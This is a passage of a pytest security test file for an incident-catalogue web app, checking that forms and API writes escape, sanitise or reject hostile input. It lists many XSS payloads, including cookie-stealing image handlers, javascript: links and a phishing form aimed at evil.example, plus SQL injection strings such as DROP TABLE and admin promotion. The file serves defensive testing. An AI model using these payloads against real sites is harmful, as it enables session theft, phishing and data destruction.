"""Hostile input: a catalogue of attacks on every form and every API write.

Every case starts from a world (`world`) of the seeded catalog plus one incident
with its post-mortem and one action item, on SQLite and on PostgreSQL, and is
one of three kinds:

* `Refused`: the request answers the stated 4xx, never a 5xx, names the
  offending field where there is one, and not one row of incidents,
  incident_vectors, vectors, postmortems, action_items, users or api_tokens
  changed (login attempts and the audit log may; a token's `last_used_at`
  moves with every API call). Since they change nothing, the refused cases of
  one category share a world, one subtest each.
* `Stored`: the value is plain data. It reads back exactly through the API
  (accounts: from the database), and every page that shows it shows it
  escaped, or for Markdown sanitised. Each has a world of its own.
* `Reflected`: a hostile query string comes back on a page, escaped.

Every HTML page a case meets must be inert (`assert_inert_html`): no script,
iframe, object, embed, svg, math, style or img element; no `on…` event
handler, `style` or `srcdoc` attribute; no javascript:, vbscript: or data: URL
in a link; no form posting off the site; no meta refresh. The app's own
templates use none of these, so anything found came from the input.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlencode

import pytest
from markupsafe import escape
from sqlalchemy import select, text
from sqlalchemy.orm import Session

from catalog.auth.models import ApiToken, User
from catalog.incidents.service import update_incident
from catalog.postmortems.service import save_postmortem
from catalog.vectors.service import get_vector, update_vector
from tests.conftest import signed_in_client
from tests.factories import T0, api_payload, form_payload, iso, make_incident

ADMIN = "admin@example.com"
DUE = (T0 + timedelta(days=7)).date()  # long past: the item is overdue on the dashboard
CONFLICT = "Someone else saved a change to this while you were editing."
CONTROL = "contains control characters; only newline and tab are allowed."


# ---- the world every case starts from --------------------------------------------------


@dataclass
class World:
    app: Any
    client: Any  # an admin, signed in on the web and carrying a bearer token
    session: Session
    incident: int  # the incident, its post-mortem and the data-drift vector are at version 2
    item: int  # the post-mortem's one action item


@pytest.fixture
def world(app, client, session) -> World:
    incident = make_incident(session)
    update_incident(session, incident, {"team": "search-infra", "version": 1})
    item = {"title": "Add a canary", "owner": "sam", "due_on": DUE}
    pm, _ = save_postmortem(session, incident, {"root_cause": "first", "action_items": [item]})
    session.commit()
    item["id"] = pm.action_items[0].id
    save_postmortem(
        session,
        incident,
        {"version": 1, "root_cause": "A cache stampede.", "action_items": [item]},
    )
    update_vector(session, get_vector(session, "data-drift"), {"detection": "PSI", "version": 1})
    session.commit()
    return World(app, client, session, incident.id, item["id"])


SNAPSHOT = (
    "incidents",
    "incident_vectors",
    "vectors",
    "postmortems",
    "action_items",
    "users",
    "api_tokens",
)
VOLATILE = {"api_tokens": {"last_used_at"}}


def snapshot(session: Session) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of every table a refused request must leave alone."""
    session.rollback()
    state = {}
    for table in SNAPSHOT:
        result = session.execute(text(f"SELECT * FROM {table}"))
        keep = [i for i, k in enumerate(result.keys()) if k not in VOLATILE.get(table, ())]
        state[table] = sorted((tuple(row[i] for i in keep) for row in result), key=repr)
    session.rollback()  # end the read transaction: SQLite would keep its snapshot
    return state


# ---- what "inert" means for a page -------------------------------------------------------

ACTIVE_TAGS = {
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "svg",
    "math",
    "style",
    "base",
    "video",
    "audio",
    "template",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
SPECIAL = set("<>&\"'")


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {k: v or "" for k, v in attrs}))


def assert_inert_html(page: str, where: str = "") -> None:
    lowered = page.lower()
    for raw in ("<script", "<iframe", "<svg", "<object", "<embed", "<style"):
        assert raw not in lowered, (where, raw)
    # The one image a page may hold: a chart from our own route (reports.chart).
    for src in re.findall(r"<img[^>]*\ssrc=\"([^\"]*)\"", page, flags=re.IGNORECASE):
        assert src.startswith("/reports/chart/"), (where, src)
    assert lowered.count("<img") == len(re.findall(r"<img[^>]*\ssrc=", lowered)), where
    assert "test-secret" not in page, where  # the SECRET_KEY: no template injection
    parser = _Elements()
    parser.feed(page)
    parser.close()
    for tag, attrs in parser.elements:
        assert tag not in ACTIVE_TAGS, (where, tag, attrs)
        for name, value in attrs.items():
            assert not name.startswith("on"), (where, tag, name, value)
            assert name not in ("style", "srcdoc"), (where, tag, name, value)
            if name in URL_ATTRIBUTES:
                squashed = re.sub(r"[\x00-\x20]+", "", value).lower()
                assert not squashed.startswith(BAD_SCHEMES), (where, tag, name, value)
        if tag == "form":
            action = attrs.get("action", "")
            assert action == "" or (action.startswith("/") and not action.startswith("//")), attrs
        if tag == "img":  # a chart from our own route, nothing else (checked above too)
            assert attrs.get("src", "").startswith("/reports/chart/"), (where, attrs)
        if tag == "meta":
            assert "http-equiv" not in attrs, attrs
        if tag == "link":
            assert attrs.get("href", "").startswith("/static/"), attrs


def page_of(w: World, url: str, status: int = 200) -> str:
    response = w.client.get(url)
    page = response.get_data(as_text=True)
    assert response.status_code == status, (url, response.status_code, page[:500])
    assert_inert_html(page, url)
    return page


# ---- refused requests ------------------------------------------------------------------------


@dataclass(frozen=True)
class Refused:
    send: Callable[[World], Any]
    status: int
    fields: tuple[str, ...] = ()  # API: keys of error.fields; form: fields marked on the page
    says: str = ""  # a fragment of the explanation the user gets
    setup: Callable[[World], Any] | None = None

    def __call__(self, w: World) -> None:
        if self.setup is not None:
            self.setup(w)
        before = snapshot(w.session)
        response = self.send(w)
        body = response.get_data(as_text=True)
        assert 400 <= response.status_code < 500, (response.status_code, body[:800])
        assert response.status_code == self.status, (response.status_code, body[:800])
        if response.is_json:
            error = response.get_json()["error"]
            named = error.get("fields") or {}
            assert set(self.fields) <= set(named), error
            said = [error["message"], *(m for ms in named.values() for m in ms)]
            assert any(self.says in m for m in said), (self.says, error)
        else:
            assert_inert_html(body)
            for name in self.fields:
                assert f'id="{name}-error"' in body, name
            assert str(escape(self.says)) in body, self.says
        assert snapshot(w.session) == before


def get(url: str, **query: Any) -> Callable[[World], Any]:
    return lambda w: w.client.get(url, query_string=query)


def post_incident(**fields: Any) -> Callable[[World], Any]:
    return lambda w: w.client.post("/api/v1/incidents", json=api_payload(**fields))


def patch_incident(body: dict[str, Any]) -> Callable[[World], Any]:
    return lambda w: w.client.patch(f"/api/v1/incidents/{w.incident}", json=body)


def post_vector(body: dict[str, Any]) -> Callable[[World], Any]:
    return lambda w: w.client.post("/api/v1/vectors", json={"name": "Hostile vector", **body})


def patch_vector(body: dict[str, Any], slug: str = "data-drift") -> Callable[[World], Any]:
    return lambda w: w.client.patch(f"/api/v1/vectors/{slug}", json=body)


def put_postmortem(body: dict[str, Any]) -> Callable[[World], Any]:
    return lambda w: w.client.put(f"/api/v1/incidents/{w.incident}/postmortem", json=body)


def api_item(w: World, **fields: Any) -> dict[str, Any]:
    return {
        "id": w.item,
        "title": "Add a canary",
        "owner": "sam",
        "due_on": DUE.isoformat(),
        **fields,
    }


def put_item(**fields: Any) -> Callable[[World], Any]:
    return lambda w: put_postmortem({"version": 2, "action_items": [api_item(w, **fields)]})(w)


def raw_json(method: str, url: str, body: bytes) -> Callable[[World], Any]:
    def send(w: World) -> Any:
        target = url.format(incident=w.incident)
        return getattr(w.client, method)(target, data=body, content_type="application/json")

    return send


def vector_form(**fields: Any) -> dict[str, Any]:
    data = {
        "name": "Hostile vector",
        "slug": "",
        "category": "other",
        "description": "",
        "detection": "",
        "mitigation": "",
        "mttd_target_minutes": "5",
        "mttr_target_minutes": "15",
        "severity": "",
        "occurrence": "",
        "detectability": "",
    }
    data.update(fields)
    return data


def data_drift_form(**fields: Any) -> dict[str, Any]:
    base = {"name": "Data drift", "slug": "data-drift", "category": "drift", "version": "2"}
    return vector_form(**{**base, **fields})


def pm_form(w: World, **fields: Any) -> dict[str, Any]:
    data = {
        "status": "draft",
        "root_cause_at": "",
        "root_cause": "A cache stampede.",
        "body": "## Summary\nIt broke.",
        "version": "2",
        "save": "Save post-mortem",
        "action_items-0-id": str(w.item),
        "action_items-0-title": "Add a canary",
        "action_items-0-owner": "sam",
        "action_items-0-due_on": DUE.isoformat(),
        "action_items-0-link": "",
    }
    data.update(fields)
    return data


def item_form(w: World, **fields: Any) -> dict[str, Any]:
    return pm_form(w, **{f"action_items-0-{k}": v for k, v in fields.items()})


def form_post(url: str, data: Callable[[World], dict[str, Any]]) -> Callable[[World], Any]:
    return lambda w: w.client.post(url.format(incident=w.incident), data=data(w))


def new_incident_form(**fields: Any) -> Callable[[World], Any]:
    return form_post("/incidents/new", lambda w: form_payload(**fields))


def edit_incident_form(**fields: Any) -> Callable[[World], Any]:
    return form_post(
        "/incidents/{incident}/edit", lambda w: form_payload(**{"version": "2", **fields})
    )


def raw_form(url: str, body: bytes) -> Callable[[World], Any]:
    def send(w: World) -> Any:
        return w.client.post(
            url.format(incident=w.incident),
            data=body,
            content_type="application/x-www-form-urlencoded",
        )

    return send


def encoded(data: dict[str, Any], **raw: str) -> bytes:
    """A form body with some values given as raw, already percent-encoded bytes."""
    body = urlencode({**data, **{k: f"@@{k}@@" for k in raw}})
    for key, value in raw.items():
        body = body.replace(f"%40%40{key}%40%40", value)
    return body.encode("ascii")


def anon_post(url: str, data: dict[str, Any]) -> Callable[[World], Any]:
    return lambda w: w.app.test_client().post(url, data=data)


def later(minutes: int) -> str:
    return iso(datetime.now(UTC) + timedelta(minutes=minutes))  # type: ignore[return-value]


def local_later(minutes: int) -> str:
    return (datetime.now(UTC) + timedelta(minutes=minutes)).strftime("%Y-%m-%dT%H:%M")


# ---- stored values: read back exactly, shown escaped ----------------------------------------


@dataclass(frozen=True)
class Target:
    """Where one text field is written, how it reads back, and the pages that show it."""

    write: Callable[[World, str], Any]  # asserts success; returns the key of what was written
    read: Callable[[World, Any], Any]
    shown_on: Callable[[World, Any], list[str]]  # the value verbatim, escaped
    rendered_on: Callable[[World, Any], list[str]] = lambda w, key: []  # as Markdown


@dataclass(frozen=True)
class Stored:
    target: Target
    value: str

    def __call__(self, w: World) -> Any:
        key = self.target.write(w, self.value)
        assert self.target.read(w, key) == self.value
        for url in self.target.shown_on(w, key):
            page = page_of(w, url)
            assert str(escape(self.value)) in page, url
            if SPECIAL & set(self.value):
                assert self.value not in page, url
        for url in self.target.rendered_on(w, key):
            page = page_of(w, url)
            assert "<strong>kept</strong>" in page, url  # the Markdown around it still renders
            if SPECIAL & set(self.value):
                assert self.value not in page, url
        return key


def _id_in(response: Any) -> int:
    return int(response.headers["Location"].split("#")[0].rstrip("/").rsplit("/", 1)[1])


def _ok(response: Any, status: int) -> Any:
    assert response.status_code == status, response.get_data(as_text=True)[:800]
    return response


INCIDENT_PAGES: dict[str, Callable[[World, int], list[str]]] = {
    "title": lambda w, i: [
        f"/incidents/{i}",
        "/incidents/",
        "/",
        f"/incidents/{i}/edit",
        f"/incidents/{i}/postmortem",
        "/vectors/dependency-latency",
    ],
    "service": lambda w, i: [
        f"/incidents/{i}",
        "/incidents/",
        f"/incidents/{i}/edit",
        "/reports/?group_by=service",
    ],
    "team": lambda w, i: [
        f"/incidents/{i}",
        "/incidents/",
        f"/incidents/{i}/edit",
        "/reports/?group_by=team",
    ],
    "summary": lambda w, i: [f"/incidents/{i}/edit"],
}


def incident_field(name: str, surface: str) -> Target:
    def write(w: World, value: str) -> int:
        if surface == "api-post":
            response = _ok(
                w.client.post("/api/v1/incidents", json=api_payload(**{name: value})), 201
            )
            return response.get_json()["id"]
        if surface == "api-patch":
            _ok(
                w.client.patch(f"/api/v1/incidents/{w.incident}", json={name: value, "version": 2}),
                200,
            )
            return w.incident
        if surface == "form-new":
            return _id_in(
                _ok(w.client.post("/incidents/new", data=form_payload(**{name: value})), 302)
            )
        data = form_payload(**{name: value, "version": "2"})
        _ok(w.client.post(f"/incidents/{w.incident}/edit", data=data), 302)
        return w.incident

    return Target(
        write=write,
        read=lambda w, i: w.client.get(f"/api/v1/incidents/{i}").get_json()[name],
        shown_on=INCIDENT_PAGES[name],
        rendered_on=(lambda w, i: [f"/incidents/{i}"]) if name == "summary" else (lambda w, i: []),
    )


VECTOR_PAGES: dict[str, Callable[[World, str], list[str]]] = {
    "name": lambda w, s: [
        f"/vectors/{s}",
        "/vectors/",
        "/",
        f"/vectors/{s}/edit",
        "/incidents/",
        "/incidents/new",
        "/reports/",
    ],
    "description": lambda w, s: [f"/vectors/{s}/edit"],
    "detection": lambda w, s: [f"/vectors/{s}/edit"],
    "mitigation": lambda w, s: [f"/vectors/{s}/edit"],
}
VECTOR_RENDERED: dict[str, Callable[[World, str], list[str]]] = {
    "name": lambda w, s: [],
    "description": lambda w, s: [f"/vectors/{s}", "/vectors/"],
    "detection": lambda w, s: [f"/vectors/{s}"],
    "mitigation": lambda w, s: [f"/vectors/{s}"],
}


def vector_field(name: str, surface: str) -> Target:
    def write(w: World, value: str) -> str:
        if surface == "api-post":
            body = {"name": "Hostile vector", "slug": "hostile-vector", name: value}
            return _ok(w.client.post("/api/v1/vectors", json=body), 201).get_json()["slug"]
        if surface == "api-patch":
            _ok(w.client.patch("/api/v1/vectors/data-drift", json={name: value, "version": 2}), 200)
            return "data-drift"
        if surface == "form-new":
            response = _ok(w.client.post("/vectors/new", data=vector_form(**{name: value})), 302)
            return response.headers["Location"].rstrip("/").rsplit("/", 1)[1]
        _ok(w.client.post("/vectors/data-drift/edit", data=data_drift_form(**{name: value})), 302)
        return "data-drift"

    return Target(
        write=write,
        read=lambda w, s: w.client.get(f"/api/v1/vectors/{s}").get_json()[name],
        shown_on=VECTOR_PAGES[name],
        rendered_on=VECTOR_RENDERED[name],
    )


def postmortem_field(name: str, surface: str) -> Target:
    """body and root_cause (Markdown), or item_title, item_owner, item_link of the action item."""
    item_field = name.removeprefix("item_") if name.startswith("item_") else None

    def write(w: World, value: str) -> int:
        if surface == "api":
            if item_field:
                body = {"version": 2, "action_items": [api_item(w, **{item_field: value})]}
            else:
                body = {"version": 2, "action_items": [api_item(w)], name: value}
            _ok(w.client.put(f"/api/v1/incidents/{w.incident}/postmortem", json=body), 200)
        else:
            data = (
                item_form(w, **{item_field: value}) if item_field else pm_form(w, **{name: value})
            )
            _ok(w.client.post(f"/incidents/{w.incident}/postmortem", data=data), 302)
        return w.incident

    def read(w: World, incident: int) -> Any:
        pm = w.client.get(f"/api/v1/incidents/{incident}/postmortem").get_json()
        return pm["action_items"][0][item_field] if item_field else pm[name]

    editor = lambda w, i: [f"/incidents/{i}/postmortem"]  # noqa: E731
    if item_field is None:
        return Target(write, read, shown_on=editor, rendered_on=lambda w, i: [f"/incidents/{i}"])
    shown = {
        "title": lambda w, i: [f"/incidents/{i}", f"/incidents/{i}/postmortem", "/"],
        "owner": lambda w, i: [f"/incidents/{i}", f"/incidents/{i}/postmortem", "/"],
        "link": lambda w, i: [f"/incidents/{i}", f"/incidents/{i}/postmortem"],
    }[item_field]
    return Target(write, read, shown_on=shown)


def _user_id(w: World, email: str) -> int:
    w.session.rollback()
    user_id = w.session.scalar(select(User.id).where(User.email == email))
    assert user_id is not None, email
    return user_id


def _user_value(w: World, user_id: int, column: Any) -> Any:
    w.session.rollback()
    return w.session.scalar(select(column).where(User.id == user_id))


def account_field(kind: str) -> Target:
    """A user's name (own account page, or an invitation), an invited e-mail, a token name."""

    def write(w: World, value: str) -> int:
        if kind == "own-name":
            _ok(w.client.post("/account", data={"name": value, "timezone": ""}), 302)
            return _user_id(w, ADMIN)
        if kind == "token-name":
            _ok(w.client.post("/account/tokens", data={"token-name": value}), 201)
            return _user_id(w, ADMIN)
        email, name = (value, "") if kind == "invite-email" else ("new@example.com", value)
        data = {"email": email, "name": name, "role": "viewer"}
        _ok(w.client.post("/admin/users", data=data), 201)
        return _user_id(w, email)

    def read(w: World, user_id: int) -> Any:
        if kind == "token-name":
            w.session.rollback()
            query = select(ApiToken.name).where(ApiToken.user_id == user_id)
            return w.session.scalars(query.order_by(ApiToken.id.desc())).first()
        return _user_value(w, user_id, User.email if kind == "invite-email" else User.name)

    pages = {
        "own-name": lambda w, u: ["/account", "/admin/users", f"/admin/users/{u}"],
        "token-name": lambda w, u: ["/account", f"/admin/users/{u}"],
        "invite-name": lambda w, u: ["/admin/users", f"/admin/users/{u}"],
        "invite-email": lambda w, u: ["/admin/users", f"/admin/users/{u}"],
    }[kind]
    return Target(write, read, shown_on=pages)


# ---- reflected query strings -----------------------------------------------------------------


@dataclass(frozen=True)
class Reflected:
    url: str
    status: int
    echoed: str = ""  # shown escaped on the page

    def __call__(self, w: World) -> None:
        before = snapshot(w.session)
        page = page_of(w, self.url, self.status)
        if self.echoed:
            assert str(escape(self.echoed)) in page
            if SPECIAL & set(self.echoed):
                assert self.echoed not in page
        assert snapshot(w.session) == before


# =============================================================================================
# 1. Cross-site scripting: every text and Markdown field, over the API and over the forms
# =============================================================================================

SCRIPT = '<script>alert("xss")</script>'
IMG = "<img src=x onerror=alert(document.cookie)>"
ATTR_BREAKOUT = '"><svg/onload=alert(1)>'
QUOTE_BREAKOUT = "' autofocus onfocus='alert(1)"
TITLE_BREAKOUT = "</title><script>alert(1)</script>"
TEXTAREA_BREAKOUT = "</textarea><script>alert(1)</script>"
IFRAME = '<iframe src="javascript:alert(1)"></iframe>'
STYLED = '<p style="position:fixed;inset:0">log in again</p>'
TEMPLATE = "{{ config.SECRET_KEY }}{{ 7*191 }}{% debug %}"
ENTITIES = "&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;b&#x3E;"


def md(attack: str) -> str:
    """A Markdown value: the attack after some Markdown that must still render."""
    return f"**kept**\n\n{attack}"


XSS_CASES = [
    pytest.param(incident_field("title", "api-post"), SCRIPT, id="incident-title-api-post"),
    pytest.param(
        incident_field("title", "form-edit"), TITLE_BREAKOUT, id="incident-title-form-edit"
    ),
    pytest.param(
        incident_field("service", "form-new"), ATTR_BREAKOUT, id="incident-service-form-new"
    ),
    pytest.param(incident_field("service", "api-patch"), IMG, id="incident-service-api-patch"),
    pytest.param(incident_field("team", "api-post"), QUOTE_BREAKOUT, id="incident-team-api-post"),
    pytest.param(incident_field("team", "form-edit"), TEMPLATE, id="incident-team-form-edit"),
    pytest.param(
        incident_field("summary", "api-patch"),
        md("[click me](javascript:alert(1))"),
        id="incident-summary-api-patch-js-link",
    ),
    pytest.param(
        incident_field("summary", "form-new"),
        md('<div onclick="alert(1)" style="color:red">x</div><a href="javascript:alert(1)">y</a>'),
        id="incident-summary-form-new-raw-html",
    ),
    pytest.param(
        incident_field("summary", "api-post"),
        md(
            "<javascript:alert(1)> and [x](vbscript:msgbox(1))"
            " and <scr<script>ipt>alert(1)</script>"
        ),
        id="incident-summary-api-post-autolink-vbscript-nested",
    ),
    pytest.param(vector_field("name", "api-post"), IMG, id="vector-name-api-post"),
    pytest.param(vector_field("name", "form-new"), TEXTAREA_BREAKOUT, id="vector-name-form-new"),
    pytest.param(vector_field("name", "api-patch"), ENTITIES, id="vector-name-api-patch-entities"),
    pytest.param(
        vector_field("description", "api-patch"),
        md("[click me][1]\n\n[1]: javascript:alert(1)"),
        id="vector-description-api-patch-reference-link",
    ),
    pytest.param(
        vector_field("description", "form-edit"),
        md('<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
        id="vector-description-form-edit-iframe",
    ),
    pytest.param(
        vector_field("detection", "api-post"),
        md("[click me](JaVaScRiPt:alert(1)) [again]( javascript:alert(1) )"),
        id="vector-detection-api-post-mixed-case-link",
    ),
    pytest.param(
        vector_field("detection", "form-new"),
        md("<style>body{display:none}</style>" + STYLED),
        id="vector-detection-form-new-style",
    ),
    pytest.param(
        vector_field("mitigation", "api-patch"),
        md("[click me](&#106;avascript:alert(1)) [x](java&#x09;script:alert(1))"),
        id="vector-mitigation-api-patch-entity-link",
    ),
    pytest.param(
        vector_field("mitigation", "form-edit"),
        md("```html\n<script>alert(1)</script>\n```\n\n    <img src=x onerror=alert(1)>"),
        id="vector-mitigation-form-edit-code-block",
    ),
    pytest.param(
        postmortem_field("body", "api"),
        md(
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"
            '<math><a xlink:href="javascript:alert(1)">m</a></math>'
        ),
        id="postmortem-body-api-svg-math",
    ),
    pytest.param(
        postmortem_field("body", "form"),
        md(
            '<form action="https://evil.example/steal"><input name="password">'
            "<button>Sign in</button></form>"
        ),
        id="postmortem-body-form-phishing-form",
    ),
    pytest.param(
        postmortem_field("root_cause", "api"),
        md(
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"
            " ![y](javascript:alert(1))"
        ),
        id="postmortem-root-cause-api-data-link",
    ),
    pytest.param(
        postmortem_field("root_cause", "form"),
        md(
            '<meta http-equiv="refresh" content="0;url=https://evil.example">'
            '<base href="https://evil.example/">'
        ),
        id="postmortem-root-cause-form-meta-refresh",
    ),
    pytest.param(postmortem_field("item_title", "api"), SCRIPT, id="action-item-title-api"),
    pytest.param(postmortem_field("item_title", "form"), IFRAME, id="action-item-title-form"),
    pytest.param(postmortem_field("item_owner", "api"), IMG, id="action-item-owner-api"),
    pytest.param(
        postmortem_field("item_owner", "form"), ATTR_BREAKOUT, id="action-item-owner-form"
    ),
    pytest.param(
        postmortem_field("item_link", "api"),
        'https://example.com/"><script>alert(1)</script>',
        id="action-item-link-api-attribute-breakout",
    ),
    pytest.param(
        postmortem_field("item_link", "form"),
        "https://example.com/'onmouseover='alert(1)'",
        id="action-item-link-form-quote-breakout",
    ),
    pytest.param(account_field("own-name"), IMG, id="user-name-account-form"),
    pytest.param(account_field("invite-name"), SCRIPT, id="user-name-admin-invite"),
    pytest.param(
        account_field("invite-email"),
        '"><svg/onload=alert(1)>@evil.example',
        id="user-email-admin-invite",
    ),
    pytest.param(account_field("token-name"), "</code>" + SCRIPT, id="token-name-account-form"),
]


@pytest.mark.parametrize(("target", "value"), XSS_CASES)
def test_markup_is_stored_inert_and_shown_escaped(world, target, value):
    Stored(target, value)(world)


# =============================================================================================
# 2. SQL injection: stored literally, found by an exact filter, never executed
# =============================================================================================


@dataclass(frozen=True)
class FoundExactly:
    """Stored literally; the filter finds exactly that incident, not the decoy beside it."""

    target: Target
    value: str
    query: dict[str, str]

    def __call__(self, w: World) -> None:
        decoy = api_payload(title="Decoy", service="decoy", team="decoy")
        decoy_id = _ok(w.client.post("/api/v1/incidents", json=decoy), 201).get_json()["id"]
        key = Stored(self.target, self.value)(w)
        listed = _ok(w.client.get("/api/v1/incidents", query_string=self.query), 200).get_json()
        assert [i["id"] for i in listed["items"]] == [key], listed
        page = page_of(w, "/incidents/?" + urlencode(self.query))
        assert f">#{key} " in page and f">#{decoy_id} " not in page
        # nothing ran: every table and the seeded catalog are still there
        assert _ok(w.client.get("/api/v1/vectors"), 200).get_json()["total"] == 5
        assert w.client.get(f"/api/v1/incidents/{w.incident}").status_code == 200


DROP_INCIDENTS = "'; DROP TABLE incidents; --"
OR_TRUE = "' OR '1'='1"
BOBBY = "Robert'); DROP TABLE vectors;--"
PROMOTE = "1; UPDATE users SET role='admin' WHERE 1=1; --"

SQL_STORED = [
    pytest.param(
        FoundExactly(
            incident_field("service", "api-post"), DROP_INCIDENTS, {"service": DROP_INCIDENTS}
        ),
        id="service-drop-table-api",
    ),
    pytest.param(
        FoundExactly(incident_field("team", "form-new"), OR_TRUE, {"team": OR_TRUE}),
        id="team-or-true-form",
    ),
    pytest.param(
        FoundExactly(incident_field("title", "api-patch"), BOBBY, {"q": "'); DROP TABLE"}),
        id="title-bobby-tables-search",
    ),
    pytest.param(
        FoundExactly(incident_field("service", "form-edit"), PROMOTE, {"service": PROMOTE}),
        id="service-stacked-update-form",
    ),
    pytest.param(
        FoundExactly(incident_field("team", "api-patch"), '" OR ""="', {"team": '" OR ""="'}),
        id="team-double-quote-or-api",
    ),
    pytest.param(
        FoundExactly(incident_field("title", "api-post"), "100% of requests failed", {"q": "%"}),
        id="search-percent-is-literal",
    ),
    pytest.param(
        FoundExactly(incident_field("title", "form-new"), "snake_case flag flipped", {"q": "_"}),
        id="search-underscore-is-literal",
    ),
    pytest.param(
        FoundExactly(incident_field("title", "form-edit"), r"C:\Windows\ path leaked", {"q": "\\"}),
        id="search-backslash-is-literal",
    ),
]


@pytest.mark.parametrize("case", SQL_STORED)
def test_sql_in_text_is_stored_literally_and_found_exactly(world, case):
    case(world)


def test_sql_in_filters_matches_nothing_and_runs_nothing(world):
    """Filters built from injection strings are values: they match no row and break nothing."""
    before = snapshot(world.session)
    for query in ({"vector": "' OR 1=1 --"}, {"service": OR_TRUE}, {"q": "' OR ''='"}):
        assert (
            _ok(world.client.get("/api/v1/incidents", query_string=query), 200).get_json()["items"]
            == []
        )
        assert "No incidents match" in page_of(world, "/incidents/?" + urlencode(query))
    metrics = world.client.get("/api/v1/metrics", query_string={"team": DROP_INCIDENTS})
    assert [g["count"] for g in _ok(metrics, 200).get_json()["groups"]] in ([], [0])
    assert snapshot(world.session) == before


# =============================================================================================
# 3. Refused input: every case answers 4xx and changes no row
# =============================================================================================

SQL_REFUSED = [
    ("sort", Refused(get("/api/v1/incidents", sort="title; DROP TABLE incidents"), 422, ("sort",))),
    ("severity", Refused(get("/api/v1/incidents", severity="SEV1' OR '1'='1"), 422, ("severity",))),
    ("status", Refused(get("/api/v1/incidents", status="open' --"), 422, ("status",))),
    ("since", Refused(get("/api/v1/incidents", since="2026-01-01' OR '1'='1"), 422, ("since",))),
    ("page", Refused(get("/api/v1/incidents", page="1 OR 1=1"), 422, ("page",))),
    (
        "group-by",
        Refused(get("/api/v1/metrics", group_by="vector; DROP TABLE vectors"), 422, ("group_by",)),
    ),
    (
        "slug-in-body",
        Refused(
            post_vector({"slug": "x'; DROP TABLE vectors; --"}),
            422,
            ("slug",),
            "Slug may hold only",
        ),
    ),
    ("slug-in-path", Refused(get("/api/v1/vectors/%27%20OR%20%271%27%3D%271"), 404)),
    (
        "web-sort",
        Refused(get("/incidents/", sort="started; DROP TABLE incidents"), 400, says="Sort must be"),
    ),
    (
        "login-or-true",
        Refused(
            anon_post("/login", {"email": ADMIN + "' OR '1'='1", "password": OR_TRUE}),
            401,
            says="Wrong e-mail or password",
        ),
    ),
    (
        "login-comment",
        Refused(anon_post("/login", {"email": ADMIN + "'--", "password": "x"}), 401),
    ),
]

WRONG_TYPES = [
    (
        "several-at-once",
        Refused(
            post_incident(title=123, severity=["SEV1"], vectors="data-drift"),
            422,
            ("title", "severity", "vectors"),
        ),
    ),
    (
        "operator-object",
        Refused(post_incident(summary={"$ne": None}), 422, ("summary",), "Summary must be text."),
    ),
    ("epoch-millis", Refused(post_incident(started_at=1772452800000), 422, ("started_at",))),
    (
        "version-string",
        Refused(patch_incident({"version": "2", "title": "x"}), 422, ("version",), "whole number"),
    ),
    ("version-true", Refused(patch_incident({"version": True, "title": "x"}), 422, ("version",))),
    ("version-float", Refused(patch_incident({"version": 2.0, "title": "x"}), 422, ("version",))),
    ("team-list", Refused(patch_incident({"version": 2, "team": ["a", "b"]}), 422, ("team",))),
    ("vectors-null", Refused(patch_incident({"version": 2, "vectors": [None]}), 422, ("vectors",))),
    (
        "target-sql",
        Refused(
            post_vector({"mttd_target_minutes": "5; DROP TABLE vectors"}),
            422,
            ("mttd_target_minutes",),
        ),
    ),
    (
        "archived-string",
        Refused(patch_vector({"version": 2, "archived": "false"}), 422, ("archived",)),
    ),
    (
        "postmortem-float-and-list",
        Refused(
            put_postmortem({"version": 2, "root_cause": 3.14, "status": ["draft"]}),
            422,
            ("root_cause", "status"),
        ),
    ),
    (
        "action-item-non-text",
        Refused(
            put_item(title=["x"], owner=5, link=7),
            422,
            ("action_items.0.title", "action_items.0.owner", "action_items.0.link"),
        ),
    ),
]

HUGE = [
    (
        "title-10k",
        Refused(
            post_incident(title="A" * 10_000),
            422,
            ("title",),
            "at most 200 characters (got 10,000)",
        ),
    ),
    (
        "service-101-emoji",
        Refused(
            post_incident(service="🔥" * 101), 422, ("service",), "at most 100 characters (got 101)"
        ),
    ),
    (
        "team-101-cyrillic",
        Refused(patch_incident({"version": 2, "team": "ж" * 101}), 422, ("team",)),
    ),
    (
        "description-100001",
        Refused(
            patch_vector({"version": 2, "description": "ж" * 100_001}),
            422,
            ("description",),
            "at most 100,000 characters",
        ),
    ),
    (
        "body-100001-emoji",
        Refused(put_postmortem({"version": 2, "body": "💥" * 100_001}), 422, ("body",)),
    ),
    ("item-owner-101", Refused(put_item(owner="🙂" * 101), 422, ("action_items.0.owner",))),
    (
        "form-title-201",
        Refused(new_incident_form(title="ü" * 201), 422, ("title",), "at most 200 characters"),
    ),
    (
        "form-mitigation-100001",
        Refused(
            form_post(
                "/vectors/data-drift/edit", lambda w: data_drift_form(mitigation="m" * 100_001)
            ),
            422,
            ("mitigation",),
            "at most 100,000 characters",
        ),
    ),
    (
        "form-user-name-101",
        Refused(
            form_post("/account", lambda w: {"name": "n" * 101, "timezone": ""}),
            422,
            ("name",),
            "cannot be longer than 100",
        ),
    ),
    (
        "form-token-name-101",
        Refused(
            form_post("/account/tokens", lambda w: {"token-name": "t" * 101}),
            422,
            ("token-name",),
            "cannot be longer than 100",
        ),
    ),
    (
        "form-invite-email-262",
        Refused(
            form_post(
                "/admin/users", lambda w: {"email": "a" * 250 + "@example.com", "role": "viewer"}
            ),
            422,
            ("email",),
        ),
    ),
]

CONTROL_CHARACTERS = [
    (
        "form-title-nul",
        Refused(new_incident_form(title="a\x00b"), 422, ("title",), "Title " + CONTROL),
    ),
    (
        "form-team-ansi",
        Refused(edit_incident_form(team="\x1b[31mred"), 422, ("team",), "Team " + CONTROL),
    ),
    (
